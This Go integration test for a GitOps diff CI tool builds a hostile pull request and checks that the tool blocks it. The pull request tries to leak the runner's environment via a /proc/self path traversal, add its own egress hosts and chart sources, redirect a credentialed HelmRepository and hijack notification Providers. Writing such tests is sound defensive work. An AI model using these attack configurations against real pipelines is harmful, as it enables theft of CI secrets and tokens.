package acttest

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"code.gitea.io/sdk/gitea"

	"github.com/ferry-ci/ferry/internal/forge/giteatest"
	"github.com/ferry-ci/ferry/internal/helm/helmtest"
	"github.com/ferry-ci/ferry/internal/testtree"
)

// Issue 26: a pull request's head is data, never configuration of
// ferry's reach. TestHostilePullRequestOnGitea runs the Gitea diff
// workflow for a pull request whose head tries to read the runner's
// environment (a source mapped to /proc/self, copied into a ConfigMap
// by an ArtifactGenerator), to make ferry connect to a host only it
// names (a new HelmRepository, a network.allowHosts of its own), to send
// a credential elsewhere (the base's secretRef'd chart source moved),
// and to hear of the run (Providers moved and added, with notify on).

// trap is a TCP listener that only the head names: it counts the
// connections made to it and answers none.
type trap struct {
	ln    net.Listener
	conns atomic.Int64
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tr := &trap{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			tr.conns.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return tr
}

func (tr *trap) url() string  { return "http://" + tr.ln.Addr().String() }
func (tr *trap) host() string { return tr.ln.Addr().String() }

// hook is the base's Provider address: it records the bodies posted.
type hook struct {
	*httptest.Server
	mu     sync.Mutex
	bodies []string
}

func newHook(t *testing.T) *hook {
	t.Helper()
	h := &hook{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		h.bodies = append(h.bodies, r.URL.Path+" "+string(b))
		h.mu.Unlock()
	}))
	t.Cleanup(h.Close)
	return h
}

// take returns what was posted since the last call.
func (h *hook) take() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := h.bodies
	h.bodies = nil
	return out
}

// reach is what the scenario's pull request reaches for: the base's own
// servers, and the listeners only its head names.
type reach struct {
	// charts is the base's private chart repository (basic credentials
	// from the secretRef creds); nil leaves the private chart out.
	charts *helmtest.Repo
	hook   *hook
	// chartTrap is the head's new HelmRepository (and the host its
	// network.allowHosts lists), credTrap where it moves the base's
	// secretRef'd source, notifyTrap where its Providers point.
	chartTrap, credTrap, notifyTrap *trap
}

func newReach(t *testing.T, charts *helmtest.Repo) *reach {
	return &reach{charts: charts, hook: newHook(t), chartTrap: newTrap(t), credTrap: newTrap(t), notifyTrap: newTrap(t)}
}

// hostileSync is the cluster dev of the fleet: its flux-system sync and
// the target app, whose SOPS files are decrypted.
const hostileSync = `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: flux-system, namespace: flux-system}
spec: {url: https://example.test/fleet, ref: {branch: main}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: flux-system, namespace: flux-system}
spec: {path: ./clusters/dev, prune: true, sourceRef: {kind: GitRepository, name: flux-system}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: app, namespace: flux-system}
spec:
  path: ./app
  prune: true
  sourceRef: {kind: GitRepository, name: flux-system}
  decryption: {provider: sops}
`

// environLeak is the head's attempt on the runner's environment: the
// GitRepository other (which its ferry.yaml maps to /proc/self), and an
// ArtifactGenerator copying other's environ, with a kustomization.yaml
// of the fleet that makes it a ConfigMap, into the artifact the
// Kustomization leak renders. With that mapping trusted, the ConfigMap
// holds INPUT_TOKEN and every other variable of ferry's process.
const environLeak = `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: other, namespace: flux-system}
spec: {url: https://example.test/other, ref: {branch: main}}
---
apiVersion: source.extensions.fluxcd.io/v1beta1
kind: ArtifactGenerator
metadata: {name: gen, namespace: flux-system}
spec:
  sources:
    - {alias: other, kind: GitRepository, name: other}
    - {alias: fleet, kind: GitRepository, name: flux-system}
  artifacts:
    - name: leak
      copy:
        - {from: "@fleet/leak/kustomization.yaml", to: "@artifact/kustomization.yaml"}
        - {from: "@other/environ", to: "@artifact/environ"}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: leak, namespace: flux-system}
spec:
  path: ./
  prune: true
  sourceRef: {kind: ExternalArtifact, name: leak}
`

// providerAlert is a generic Provider at address and an Alert of every
// Kustomization to it, both named name.
func providerAlert(name, address string) string {
	return "apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Provider\nmetadata: {name: " + name + ", namespace: flux-system}\nspec: {type: generic, address: \"" + address + "\"}\n---\n" +
		"apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Alert\nmetadata: {name: " + name + ", namespace: flux-system}\nspec: {providerRef: {name: " + name + "}, eventSources: [{kind: Kustomization, name: \"*\"}]}\n"
}

// helmRepository is the HelmRepository flux-system/name at u, with the
// secretRef creds when creds is set.
func helmRepository(name, u string, creds bool) string {
	s := "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: " + name + ", namespace: flux-system}\nspec:\n  url: \"" + u + "\"\n"
	if creds {
		s += "  secretRef: {name: creds}\n"
	}
	return s
}

// helmRelease is the HelmRelease web/name of chart web 1.0.0 from the
// HelmRepository repo.
func helmRelease(name, repo string) string {
	return "apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: " + name + ", namespace: web}\nspec:\n  chart:\n    spec: {chart: web, version: 1.0.0, sourceRef: {kind: HelmRepository, name: " + repo + ", namespace: flux-system}}\n"
}

// hostileBase writes the base: the cluster dev, whose Provider hook
// (the base's hook server) hears of every Kustomization, and the target
// app of a ConfigMap, a SOPS Secret and, with a private chart
// repository, the HelmRelease private of its chart web.
func hostileBase(f *fleet, rc *reach, password string) {
	resources := "config.yaml, secret.sops.yaml"
	files := map[string]string{
		"clusters/dev/sync.yaml":   hostileSync,
		"clusters/dev/alerts.yaml": providerAlert("hook", rc.hook.URL+"/base"),
		"app/config.yaml":          "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web-config, namespace: web}\ndata: {greeting: hello}\n",
		"app/secret.sops.yaml": f.encrypt("secret.sops.yaml",
			"apiVersion: v1\nkind: Secret\nmetadata: {name: web-credentials, namespace: web}\nstringData: {password: "+password+"}\n"),
	}
	if rc.charts != nil {
		files["clusters/dev/charts.yaml"] = helmRepository("charts", rc.charts.URL, true)
		files["app/release.yaml"] = helmRelease("private", "charts")
		resources += ", release.yaml"
	}
	files["app/kustomization.yaml"] = "resources: [" + resources + "]\n"
	f.write(files)
}

// hostileHead writes the head over the base: the one honest change (the
// ConfigMap's greeting), and each attempt on ferry's reach.
func hostileHead(f *fleet, rc *reach) {
	resources := "config.yaml, secret.sops.yaml, evil.yaml"
	files := map[string]string{
		"app/config.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web-config, namespace: web}\ndata: {greeting: hello-from-head}\n",
		// 1. Reads outside the workspace.
		"ferry.yaml": "sources:\n  other: " + strings.Repeat("../", 12) + "proc/self\n" +
			// 2. Egress: its own host allowed.
			"network:\n  allowHosts: [\"" + rc.chartTrap.host() + "\"]\n" +
			// 4. Notifications: a Provider of its own in ferry.yaml.
			"notifications:\n  providers:\n    - {name: mine, type: generic, address: \"" + rc.notifyTrap.url() + "/ferry-yaml\"}\n" +
			"  alerts:\n    - {name: mine, providerRef: {name: mine}, eventSources: [{kind: Kustomization, name: \"*\"}]}\n",
		"clusters/dev/gen.yaml":   environLeak,
		"leak/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nnamespace: web\nconfigMapGenerator:\n  - name: env\n    files: [environ]\n",
		// 2. Egress: a chart source only the head names.
		"clusters/dev/evil.yaml": helmRepository("evil", rc.chartTrap.url()+"/charts", false),
		// 4. Notifications: the base's Provider moved, and a Provider and
		// Alert of its own.
		"clusters/dev/alerts.yaml": providerAlert("hook", rc.notifyTrap.url()+"/moved"),
		"app/evil.yaml":            helmRelease("evil", "evil") + "---\n" + providerAlert("evil", rc.notifyTrap.url()+"/added"),
	}
	if rc.charts != nil {
		// 3. Credentials: the base's secretRef'd source moved.
		files["clusters/dev/charts.yaml"] = helmRepository("charts", rc.credTrap.url(), true)
		resources += ", release.yaml"
	}
	files["app/kustomization.yaml"] = "resources: [" + resources + "]\n"
	f.write(files)
}

// editWorkflow replaces old, which must be there, with new in the
// checkout's workflow wf.
func (f *fleet) editWorkflow(wf, old, new string) {
	f.t.Helper()
	path := filepath.Join(f.dir, wf)
	b, err := os.ReadFile(path)
	if err != nil {
		f.t.Fatal(err)
	}
	if !strings.Contains(string(b), old) {
		f.t.Fatalf("%s has no %q to replace", wf, old)
	}
	if err := os.WriteFile(path, []byte(strings.Replace(string(b), old, new, 1)), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

// hostileWorkflow installs examples/workflows/gitea/diff.yaml with
// notify on and, for a private chart repository, its credentials for
// the secretRef creds taken from the secrets CHART_USERNAME and
// CHART_PASSWORD, as a user with such a repository writes them.
func (f *fleet) hostileWorkflow(private bool) string {
	wf := f.installWorkflow("gitea", "diff")
	f.editWorkflow(wf, "          report-file: ferry-diff.md\n", "          report-file: ferry-diff.md\n          notify: true\n")
	if private {
		f.editWorkflow(wf, "        uses: ferry-ci/ferry/steps/diff@v1\n",
			"        uses: ferry-ci/ferry/steps/diff@v1\n        env:\n"+
				"          FERRY_SECRET_CREDS_USERNAME: ${{ secrets.CHART_USERNAME }}\n"+
				"          FERRY_SECRET_CREDS_PASSWORD: ${{ secrets.CHART_PASSWORD }}\n")
	}
	return wf
}

// canary is a value to look for in what a run leaves: prefix and 16
// random bytes in hex.
func canary(t *testing.T, prefix string) string {
	b := make([]byte, 16)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return prefix + hex.EncodeToString(b)
}

// runnerEnv is giteaEnv with what the runner gives every step and that
// must not leak: the runtime token and the OIDC request token (canaries
// here; act sets none without an artifact server).
func (f *fleet) runnerEnv(t *testing.T) (env map[string]string, tokens []string) {
	env = f.giteaEnv()
	env["ACTIONS_RUNTIME_TOKEN"] = canary(t, "runtime-")
	env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"] = canary(t, "oidc-")
	env["ACTIONS_ID_TOKEN_REQUEST_URL"] = "http://127.0.0.1:1/oidc"
	return env, []string{env["ACTIONS_RUNTIME_TOKEN"], env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}
}

// encodings are the forms a secret could leak in: as is, base64 (with
// and without padding, standard and URL alphabets) and hex.
func encodings(v string) []string {
	b := []byte(v)
	return []string{v, base64.StdEncoding.EncodeToString(b), base64.RawStdEncoding.EncodeToString(b),
		base64.URLEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b), hex.EncodeToString(b)}
}

// noLeak fails the test when text holds any of secrets in any of its
// encodings.
func noLeak(t *testing.T, where, text string, secrets ...string) {
	t.Helper()
	for _, s := range secrets {
		for _, e := range encodings(s) {
			if s != "" && strings.Contains(text, e) {
				t.Errorf("%s holds the secret %.12s... (as %.12s...)", where, s, e)
				break
			}
		}
	}
}

// artifact is what upload-artifact would upload, as the test action
// printed it ("artifact> " lines).
func artifact(log string) string {
	var b strings.Builder
	for _, line := range StepLines(log) {
		if rest, ok := strings.CutPrefix(line, "artifact> "); ok {
			b.WriteString(rest + "\n")
		}
	}
	return b.String()
}

// hostileOutcome checks one run: the job passed; the report in the
// summary, the artifact and (if posted) the comment honestly shows the
// head's change and says what it did not use; nothing reached the hosts
// only the head names; the base's Provider heard of the change; and no
// secret of the job is in any of them, nor in the job's log.
func hostileOutcome(t *testing.T, res Result, rc *reach, comment string, secrets []string) {
	t.Helper()
	runOK(t, res)
	want := []string{
		"ConfigMap/web/web-config", "-  greeting: hello\n+  greeting: hello-from-head\n",
		"Provider.notification.toolkit.fluxcd.io/flux-system/evil", rc.notifyTrap.url() + "/added",
		"ferry.yaml changes sources: the diff uses the base's",
		"ferry.yaml changes network: the diff uses the base's",
		"HelmRelease/web/evil", "not rendered: new chart source " + rc.chartTrap.url() + "/charts",
	}
	if rc.charts != nil {
		want = append(want, "HelmRelease/web/private", "not rendered: new chart source "+rc.credTrap.url())
	}
	reports := map[string]string{
		"the step summary": strings.Join(res.Summaries, "\n"),
		"the artifact":     artifact(res.Log),
	}
	if comment != "" {
		reports["the comment"] = comment
	}
	for where, text := range reports {
		for _, w := range want {
			if !strings.Contains(text, w) {
				t.Errorf("%s does not show %q:\n%s", where, w, text)
			}
		}
		for _, env := range []string{"INPUT_TOKEN=", "ACTIONS_RUNTIME_TOKEN=", "GITHUB_TOKEN="} {
			if strings.Contains(text, env) {
				t.Errorf("%s holds the runner's environment (%s)", where, env)
			}
		}
		noLeak(t, where, text, secrets...)
	}
	noLeak(t, "the job log", res.Log, secrets...)
	for name, tr := range map[string]*trap{"the head's new chart source": rc.chartTrap, "the moved secretRef'd source": rc.credTrap, "the head's Providers": rc.notifyTrap} {
		if n := tr.conns.Load(); n > 0 {
			t.Errorf("%s (%s) got %d connections", name, tr.url(), n)
		}
	}
	if got := rc.hook.take(); len(got) != 1 || !strings.HasPrefix(got[0], "/base ") || !strings.Contains(got[0], "DiffChanged") {
		t.Errorf("the base's Provider received %q, want one DiffChanged event", got)
	}
}

// TestHostilePullRequestOnGitea runs examples/workflows/gitea/diff.yaml
// (notify on) on a real Gitea for a pull request whose head tries items
// 1-4 of issue 26, twice: from a branch of the repository (the job has
// its token, which can comment, and the age key), and from a fork (no
// secrets: the fork's own token, no age key, no chart credentials). act
// masks no secret in the log (ShowSecrets), so the log is what the steps
// wrote.
func TestHostilePullRequestOnGitea(t *testing.T) {
	t.Parallel()
	r := Require(t)
	g := giteatest.Require(t)
	ferry := r.StageFerry(t, nil)

	t.Run("same repository", func(t *testing.T) {
		f := newFleet(t, g)
		chartPassword := canary(t, "chart-pw-")
		charts := helmtest.NewRepo(t, helmtest.RepoOptions{Username: "chart-user", Password: chartPassword})
		charts.Add(t, testtree.New(t, helmtest.WebChart("")), "1.0.0")
		rc := newReach(t, charts)
		password := canary(t, "sops-pw-")
		wf := f.hostileWorkflow(true)
		base, head := f.change(func() { hostileBase(f, rc, password) }, func() { hostileHead(f, rc) })
		pr := g.CreatePullRequest(t, f.token, f.owner, f.name, "change", "main", "web: greeting, and a little more")
		env, tokens := f.runnerEnv(t)

		res := r.Run(t, Job{
			Dir: f.dir, Workflow: wf, Event: "pull_request", ServerHost: f.host(), Env: env,
			Secrets: map[string]string{"GITHUB_TOKEN": f.token, "SOPS_AGE_KEY": f.key.Identity,
				"CHART_USERNAME": "chart-user", "CHART_PASSWORD": chartPassword},
			Actions: Actions(ferry), Payload: f.pullRequestEvent("opened", pr.Number, base, head), ShowSecrets: true,
		})
		comments := g.Comments(t, f.token, f.owner, f.name, pr.Number)
		if len(comments) != 1 {
			t.Fatalf("%d comments on the pull request, want ferry's one:\n%v\n%s", len(comments), comments, res.Log)
		}
		hostileOutcome(t, res, rc, comments[0].Body, append(tokens, f.token, f.key.Identity, password, chartPassword))
		if charts.AuthorizationSeen("/index.yaml") == 0 {
			t.Errorf("the base's chart repository never got its credentials: the moved source proves nothing")
		}
	})

	t.Run("fork", func(t *testing.T) {
		f := newFleet(t, g)
		rc := newReach(t, nil)
		password := canary(t, "sops-pw-")
		wf := f.hostileWorkflow(false)
		hostileBase(f, rc, password)
		base := f.commit("fleet")
		f.push("main")
		forker := giteatest.Unique("drive-by")
		forkToken := g.CreateUser(t, forker)
		if _, _, err := g.Client(t, forkToken).CreateFork(f.owner, f.name, gitea.CreateForkOption{}); err != nil {
			t.Fatalf("forking %s: %v", f.repository(), err)
		}
		f.git("checkout", "-q", "-b", "hostile")
		hostileHead(f, rc)
		head := f.commit("the change")
		f.pushTo(forker, forkToken, "hostile")
		p, _, err := g.Client(t, forkToken).CreatePullRequest(f.owner, f.name, gitea.CreatePullRequestOption{
			Head: forker + ":hostile", Base: "main", Title: "web: greeting, and a little more"})
		if err != nil {
			t.Fatalf("opening the fork's pull request: %v", err)
		}
		env, tokens := f.runnerEnv(t)

		res := r.Run(t, Job{
			Dir: f.dir, Workflow: wf, Event: "pull_request", ServerHost: f.host(), Env: env,
			// A fork's run gets no secrets: only its token.
			Secrets: map[string]string{"GITHUB_TOKEN": forkToken},
			Actions: Actions(ferry), Payload: f.forkPullRequestEvent(forker, p.Index, base, head), ShowSecrets: true,
		})
		if comments := g.Comments(t, f.token, f.owner, f.name, p.Index); len(comments) != 0 {
			t.Errorf("%d comments on a fork's pull request, want none:\n%v", len(comments), comments)
		}
		hostileOutcome(t, res, rc, "", append(tokens, forkToken, password))
	})
}

// pushTo pushes HEAD to branch of owner's copy of the fleet's repository
// (a fork), as owner.
func (f *fleet) pushTo(owner, token, branch string) {
	f.t.Helper()
	u, err := url.Parse(f.gitea.CloneURL(owner, f.name))
	if err != nil {
		f.t.Fatal(err)
	}
	u.User = url.UserPassword(owner, token)
	f.git("push", "-q", "--force", u.String(), "HEAD:refs/heads/"+branch)
}

// forkPullRequestEvent is the payload of a pull_request event opened
// from branch hostile of forker's fork into main: its head repository
// is not the base's.
func (f *fleet) forkPullRequestEvent(forker string, number int64, base, head string) map[string]any {
	ev := f.pullRequestEvent("opened", number, base, head)
	ev["pull_request"].(map[string]any)["head"] = map[string]any{
		"ref": "hostile", "sha": head, "label": forker + ":hostile",
		"repo": map[string]any{
			"name": f.name, "full_name": forker + "/" + f.name, "fork": true,
			"owner": map[string]any{"login": forker}, "clone_url": f.gitea.CloneURL(forker, f.name),
		},
	}
	return ev
}
